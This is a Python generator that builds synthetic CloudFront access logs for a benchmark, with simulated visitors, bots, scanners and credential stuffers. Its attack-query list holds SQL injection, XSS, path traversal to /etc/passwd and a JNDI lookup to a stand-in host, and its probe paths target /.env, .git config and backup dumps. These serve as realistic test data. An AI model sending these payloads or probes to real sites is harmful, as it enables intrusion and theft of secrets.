"""CloudFront logs of one busy day, made from a seed in seconds: what `make bench` reads. Shapes only, no story.

    python -m benchmarks.generate [LINES] [--seed 7] [--folder .weir/bench]

A believable day with known attackers is the simulator's work; here only volume and shape count: hourly objects of
standard log v1 with 33 fields, few clients with most requests, hot pages with a long tail, a quarter with queries,
percent-encoding, one line in ten thousand malformed. Request ids are unique but hold less entropy than real ones, so
that 3 million lines (about 980 MB) come to about 128 MB of gzip. A set that is there already is not made again.
"""

from __future__ import annotations

import argparse
import gzip
import json
import os
import shutil
from concurrent.futures import ProcessPoolExecutor
from dataclasses import asdict, dataclass
from functools import lru_cache
from itertools import product
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from spark_jobs.sources.cloudfront.layouts import V1_FIELDS

VERSION = 1
DAY = "2026-11-20"
DISTRIBUTION = "E2WEIRBENCH01"
CLIENTS = 60_000
MALFORMED_SHARE = 1e-4
REQUESTS_A_VISIT = 6
HEADER = f"#Version: 1.0\n#Fields: {' '.join(V1_FIELDS)}\n".encode()
BASE64 = np.frombuffer(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", np.uint8)
Index = np.ndarray


@dataclass(frozen=True)
class DataSet:
    """A generated day: where its objects are and what they hold."""

    folder: str
    lines: int
    malformed: int
    raw_bytes: int
    stored_bytes: int
    objects: int

    @property
    def files(self) -> list[Path]:
        return sorted(Path(self.folder).glob("*.gz"))


def data_set(lines: int = 3_000_000, seed: int = 7, home: Path = Path(".weir/bench")) -> DataSet:
    """The set of these parameters, generated where it is not there yet."""
    folder = home / f"lines-{lines}-seed-{seed}-v{VERSION}"
    noted = folder / "set.json"
    if not noted.exists():
        unfinished = folder.with_name(f"{folder.name}.{os.getpid()}.tmp")
        unfinished.mkdir(parents=True)
        plan = _plan(lines, seed)
        with ProcessPoolExecutor(os.cpu_count()) as pool:
            made = list(
                pool.map(_write, [(seed, number, *item, unfinished, lines) for number, item in enumerate(plan)])
            )
        malformed, raw, stored = (sum(column) for column in zip(*made, strict=True))
        figures = {"lines": lines, "malformed": malformed, "raw_bytes": raw, "stored_bytes": stored}
        (unfinished / "set.json").write_text(json.dumps({**figures, "objects": len(plan)}), encoding="utf-8")
        shutil.rmtree(folder, ignore_errors=True)
        unfinished.rename(folder)
    return DataSet(str(folder.absolute()), **json.loads(noted.read_text(encoding="utf-8")))


def _plan(lines: int, seed: int) -> list[tuple[int, int, int]]:
    """(hour, lines, number of the first line) of each object: two to four an hour, more lines by day than by night."""
    rng = np.random.default_rng([seed, 0])
    shares = [(hour, rng.random() + 1) for hour in range(24) for _ in range(rng.integers(2, 5))]
    weights = np.array([share * (1.4 + np.sin((hour - 9) / 24 * 2 * np.pi)) for hour, share in shares])
    ends = np.round(np.cumsum(weights) / weights.sum() * lines).astype(int)
    starts = np.r_[0, ends[:-1]]
    return [(hour, int(e - s), int(s)) for (hour, _), s, e in zip(shares, starts, ends, strict=True) if e > s]


def _write(item: tuple[int, int, int, int, int, Path, int]) -> tuple[int, int, int]:
    """One object; returns its malformed lines, and its size before and after compression."""
    seed, number, hour, rows, first, folder, lines = item
    rng = np.random.default_rng([seed, 1, number])
    text = _lines(rng, _world(seed), hour, rows, _request_ids(first, rows, lines))
    bad = np.flatnonzero(rng.random(rows) < MALFORMED_SHARE)
    if len(bad):
        spoilt = [
            _spoilt(line, kind)
            for line, kind in zip(text.take(bad).to_pylist(), rng.integers(0, 5, len(bad)), strict=True)
        ]
        text = pc.replace_with_mask(text, np.isin(np.arange(rows), bad), pa.array(spoilt, pa.string()))
    text = pc.binary_join_element_wise(text, "", "\n")
    raw = HEADER + text.buffers()[2].to_pybytes()[: text.offset + sum(pc.binary_length(text).to_numpy())]
    stored = gzip.compress(raw, 6, mtime=0)
    (folder / f"{DISTRIBUTION}.{DAY}-{hour:02}.{number:08x}.gz").write_bytes(stored)
    return len(bad), len(raw), len(stored)


def _spoilt(line: str, kind: int) -> str:
    values = line.split("\t")
    if kind == 0:
        return "\t".join(values[:11])
    if kind == 1:
        return f"{line}\tmore"
    position, value = {2: (3, "12x4"), 3: (8, "2OO"), 4: (0, "2026-13-45")}[int(kind)]
    values[position] = value
    return "\t".join(values)


def _request_ids(first: int, rows: int, lines: int) -> pa.Array:
    """56 characters: a part that is the same for a thousand lines, and a scattered number, unique in the set."""
    digits = max(4, -(-int(lines).bit_length() // 6))
    numbers = np.arange(first, first + rows, dtype=np.uint64)
    scattered = numbers * np.uint64(0x9E3779B97F4A7C15) % np.uint64(64**digits)
    text = np.empty((rows, 56), np.uint8)
    text[:, :44] = BASE64[np.random.default_rng([first, 2]).integers(0, 64, (rows // 1000 + 1, 44))].repeat(1000, 0)[
        :rows
    ]
    text[:, 44 - digits : 54 - digits] = BASE64[7]
    text[:, 54 - digits : 54] = BASE64[
        (scattered[:, None] >> (np.arange(digits, dtype=np.uint64) * np.uint64(6))) % np.uint64(64)
    ]
    text[:, 54:] = ord("=")
    return pa.Array.from_buffers(
        pa.string(), rows, [None, pa.py_buffer(np.arange(0, 56 * rows + 1, 56, dtype=np.int32)), pa.py_buffer(text)]
    )


# --- the site and its visitors ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class World:
    """Clients with what stays the same for each, and texts by number."""

    ips: pa.Array
    client_weights: np.ndarray
    client_kind: np.ndarray
    client_agent: np.ndarray
    client_edge: np.ndarray
    cookies: pa.Array
    agents: pa.Array
    edges: pa.Array
    paths: dict[str, pa.Array]
    queries: pa.Array
    attacks: pa.Array


VISITOR, BOT, SCANNER, STUFFER = range(4)


@lru_cache(maxsize=1)
def _world(seed: int) -> World:
    rng = np.random.default_rng([seed, 3])
    agents, tools = (
        _agents(),
        [quote(a, safe="/;:,()+") for a in ("curl/8.9.1", "python-requests/2.32.3", "Nuclei - Open-source project")],
    )
    bots = [
        quote(
            f"Mozilla/5.0 (compatible; {name}; +https://{name.split('/')[0].lower()}.example/bot.html)", safe="/;:,()+"
        )
        for name in ("Googlebot/2.1", "bingbot/2.0", "AhrefsBot/7.0", "UptimeMonitor/1.0", "YandexBot/3.0")
    ]
    kind = np.zeros(CLIENTS, np.int8)
    special = rng.permutation(CLIENTS)[:420]
    kind[special[:120]], kind[special[120:300]], kind[special[300:]] = BOT, SCANNER, STUFFER
    agent = _zipf(rng, len(agents), CLIENTS, 3)
    agent[kind == BOT] = len(agents) + rng.integers(0, len(bots), (kind == BOT).sum())
    agent[kind >= SCANNER] = len(agents) + len(bots) + rng.integers(0, len(tools), (kind >= SCANNER).sum())
    edges = [
        f"{city}{n}-{block}"
        for city, n, block in product(("FRA", "IAD", "LHR", "NRT", "SFO", "CDG"), (2, 50, 56), ("C1", "P2"))
    ]
    sessions = [f"session={a:08x}" if a % 4 == 0 else "-" for a in rng.integers(0, 1 << 32, CLIENTS)]
    return World(
        ips=_addresses(rng),
        client_weights=_weights(CLIENTS, 30),
        client_kind=kind,
        client_agent=agent,
        client_edge=rng.integers(0, len(edges), CLIENTS),
        cookies=pa.array(sessions),
        agents=pa.array([*agents, *bots, *tools]),
        edges=pa.array(edges),
        paths=_paths(rng),
        queries=_queries(rng),
        attacks=pa.array(_attack_queries()),
    )


def _weights(count: int, flatness: float) -> np.ndarray:
    weights = 1 / (np.arange(count) + flatness)
    return np.cumsum(weights) / weights.sum()


def _zipf(rng: np.random.Generator, count: int, rows: int, flatness: float) -> Index:
    return np.searchsorted(_weights(count, flatness), rng.random(rows)).clip(max=count - 1)


def _addresses(rng: np.random.Generator) -> pa.Array:
    """Distinct addresses; an eighth IPv6; some share their network."""
    found: dict[str, None] = {}
    networks = rng.integers(0, 45_000, 2 * CLIENTS)
    hosts = rng.integers(1, 255, 2 * CLIENTS)
    for n, host in zip(networks.tolist(), hosts.tolist(), strict=True):
        if n % 8:
            found[f"{11 + n // 1000}.{n // 250 % 200 + 7}.{n % 250}.{host}"] = None
        else:
            found[f"2a0{n % 5 + 1}:{n // 64 + 256:x}:{n % 61 + 16:x}:{n % 17 + 1:x}::{host:x}"] = None
        if len(found) == CLIENTS:
            break
    return pa.array(found)


def _agents() -> list[str]:
    systems = (
        "Windows NT 10.0; Win64; x64",
        "Macintosh; Intel Mac OS X 10_15_7",
        "X11; Linux x86_64",
        "Linux; Android 14; Pixel 8",
        "Linux; Android 13; SM-S911B",
        "iPhone; CPU iPhone OS 18_1 like Mac OS X",
    )
    browsers = [f"Chrome/{n}.0.0.0" for n in range(140, 108, -1)] + [f"Firefox/{n}.0" for n in range(140, 120, -1)]
    return [quote(f"Mozilla/5.0 ({system}) {name}", safe="/;:,()+") for name, system in product(browsers, systems)]


def _paths(rng: np.random.Generator) -> dict[str, pa.Array]:
    words = [
        "garden",
        "kitchen",
        "café",
        "lamp",
        "oak",
        "chair",
        "travel",
        "winter",
        "blue",
        "small",
        "größe",
        "set",
        "light",
        "table",
        "red",
        "cotton",
    ]
    pairs = [quote(f"{a}-{b}" if n % 3 else f"{a} {b}") for n, (a, b) in enumerate(product(words, words))]
    pages = ["/", "/index.html", "/cart", "/search", "/account", "/api/v1/basket", "/api/v1/recommendations"]
    pages += [f"/category/{pair}" for pair in pairs]
    pages += [f"/product/{n:05}/{pairs[n % len(pairs)]}" for n in rng.permutation(40_000)]
    assets = [
        f"/static/{name}.{n:06x}.{kind}"
        for kind, name, n in product(("js", "css", "woff2"), ("app", "vendor", "theme"), (11, 23))
    ]
    assets += [f"/images/{n:05}/{size}.webp" for n, size in product(rng.permutation(6_000), ("small", "large"))]
    probes = ["/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/", "/actuator/env"]
    probes += [
        f"/backup/{name}.{kind}" for name, kind in product(("site", "db", "www", "dump"), ("sql", "tar", "zip", "bak"))
    ]
    signs = ["/login", "/api/v1/session", "/account/sign-in"]
    return {"page": pa.array(pages), "asset": pa.array(assets), "probe": pa.array(probes), "sign": pa.array(signs)}


def _queries(rng: np.random.Generator) -> pa.Array:
    words = ["winter", "jacket", "lamp", "oak", "table", "coffee", "größe", "blue", "travel", "set"]
    texts = [f"page={n}" for n in range(1, 60)]
    texts += [f"utm_source={s}&utm_medium=mail&utm_campaign=w{n}" for s, n in product(("news", "ads"), range(40, 50))]
    texts += [quote(f"q={a} {b}&sort=price", safe="=&") for a, b in product(words, words)]
    texts += [f"id={n}&v={n % 7}" for n in rng.integers(10_000, 99_999, 4_000)]
    return pa.array([*rng.permutation(texts), "-"])


def _attack_queries() -> list[str]:
    texts = (
        "id=1' OR '1'='1",
        "q=<script>alert(1)</script>",
        "file=../../../../etc/passwd",
        "id=1 UNION SELECT 1,2,3--",
        "x=${jndi:ldap://a.example/x}",
    )
    return [*(quote(text, safe="=/().:,$") for text in texts), "-"]


# --- lines ------------------------------------------------------------------------------------------------------------


def _lines(rng: np.random.Generator, world: World, hour: int, rows: int, request_ids: pa.Array) -> pa.Array:
    visits = rows // REQUESTS_A_VISIT + 1
    visit = np.sort(np.r_[np.arange(min(visits, rows)), rng.integers(0, visits, max(rows - visits, 0))])
    client = np.searchsorted(world.client_weights, rng.random(visits)).clip(max=CLIENTS - 1)[visit]
    kind = world.client_kind[client]
    second = (rng.integers(0, 3600, visits)[visit] + np.arange(rows) % 29) % 3600
    is_asset = (rng.random(rows) < 0.55) & (kind == VISITOR)
    page, asset = _zipf(rng, len(world.paths["page"]), rows, 12), _zipf(rng, len(world.paths["asset"]), rows, 6)
    queries = np.where(
        (rng.random(rows) < 0.5) & ~is_asset, _zipf(rng, len(world.queries) - 1, rows, 10), len(world.queries) - 1
    )
    path = pc.if_else(is_asset, world.paths["asset"].take(asset), world.paths["page"].take(page))
    path = _where(kind == SCANNER, path, world.paths["probe"], rng)
    path = _where(kind == STUFFER, path, world.paths["sign"], rng)
    query = _where(kind == SCANNER, world.queries.take(queries), world.attacks, rng)
    posts = (kind == STUFFER) | ((rng.random(rows) < 0.02) & ~is_asset)
    method = pc.if_else(posts, "POST", pc.if_else(rng.random(rows) < 0.003, "HEAD", "GET"))
    status = _status(rng, kind, is_asset)
    is_hit = (is_asset & (rng.random(rows) < 0.95)) | (status == "304")
    result = pc.if_else(status >= "400", "Error", pc.if_else(is_hit, "Hit", "Miss"))
    bytes_sent = np.where(is_asset, asset * 37 % 90_000 + 900, page * 53 % 40_000 + 4_000) + rng.integers(0, 8, rows)
    taken = np.where(is_hit, rng.integers(1, 5, rows), rng.integers(20, 90, rows)) / 1000
    thousandths = pa.array(taken).cast(pa.string())
    referer = pc.if_else(is_asset & (rng.random(rows) < 0.6), "https://example.com/", "-")
    referer = pc.if_else(rng.random(rows) < 0.05, "https://search.example/%3Fq=oak%2520lamp", referer)
    content = pc.if_else(
        is_asset, "image/webp", pc.if_else(pc.equal(path, "/api/v1/basket"), "application/json", "text/html")
    )
    agent = world.client_agent[client]
    values = {
        "date": DAY,
        "time": _times(hour).take(second),
        "x-edge-location": world.edges.take(world.client_edge[client]),
        "sc-bytes": pa.array(bytes_sent).cast(pa.string()),
        "c-ip": world.ips.take(client),
        "cs-method": method,
        "cs(Host)": "d111111abcdef8.cloudfront.net",
        "cs-uri-stem": path,
        "sc-status": pa.array(status),
        "cs(Referer)": referer,
        "cs(User-Agent)": world.agents.take(agent),
        "cs-uri-query": query,
        "cs(Cookie)": world.cookies.take(client),
        "x-edge-result-type": result,
        "x-edge-request-id": request_ids,
        "x-host-header": "example.com",
        "cs-protocol": "https",
        "cs-bytes": pa.array(80 + visit % 40).cast(pa.string()),
        "time-taken": thousandths,
        "ssl-protocol": "TLSv1.3",
        "ssl-cipher": "TLS_AES_128_GCM_SHA256",
        "x-edge-response-result-type": result,
        "cs-protocol-version": pc.if_else(client % 5 == 0, "HTTP/3.0", "HTTP/2.0"),
        "c-port": pa.array(20_000 + visit * 7919 % 40_000).cast(pa.string()),
        "time-to-first-byte": thousandths,
        "x-edge-detailed-result-type": result,
        "sc-content-type": content,
        "sc-content-len": pc.if_else(is_hit, pa.array(bytes_sent - 410).cast(pa.string()), "-"),
    }
    return pc.binary_join_element_wise(*(values.get(name, "-") for name in V1_FIELDS), "\t")


def _where(mask: np.ndarray, otherwise: pa.Array, texts: pa.Array, rng: np.random.Generator) -> pa.Array:
    return pc.if_else(mask, texts.take(rng.integers(0, len(texts), len(mask))), otherwise)


@lru_cache(maxsize=2)
def _times(hour: int) -> pa.Array:
    return pa.array([f"{hour:02}:{second // 60:02}:{second % 60:02}" for second in range(3600)])


def _status(rng: np.random.Generator, kind: np.ndarray, is_asset: np.ndarray) -> np.ndarray:
    chance = rng.random(len(kind))
    status = np.where(is_asset & (chance < 0.3), "304", "200").astype("<U3")
    for share, code in ((0.06, "301"), (0.035, "404"), (0.005, "503"), (0.003, "403"), (0.001, "000")):
        status[chance > 1 - share] = code
    status[(kind == SCANNER) & (chance < 0.9)] = "404"
    status[(kind == STUFFER) & (chance < 0.95)] = "401"
    return status


def main() -> None:
    parser = argparse.ArgumentParser(description="Generate the logs that make bench reads.")
    parser.add_argument("lines", nargs="?", type=int, default=3_000_000)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--folder", type=Path, default=Path(".weir/bench"))
    given = parser.parse_args()
    print(json.dumps(asdict(data_set(given.lines, given.seed, given.folder))))


if __name__ == "__main__":
    main()
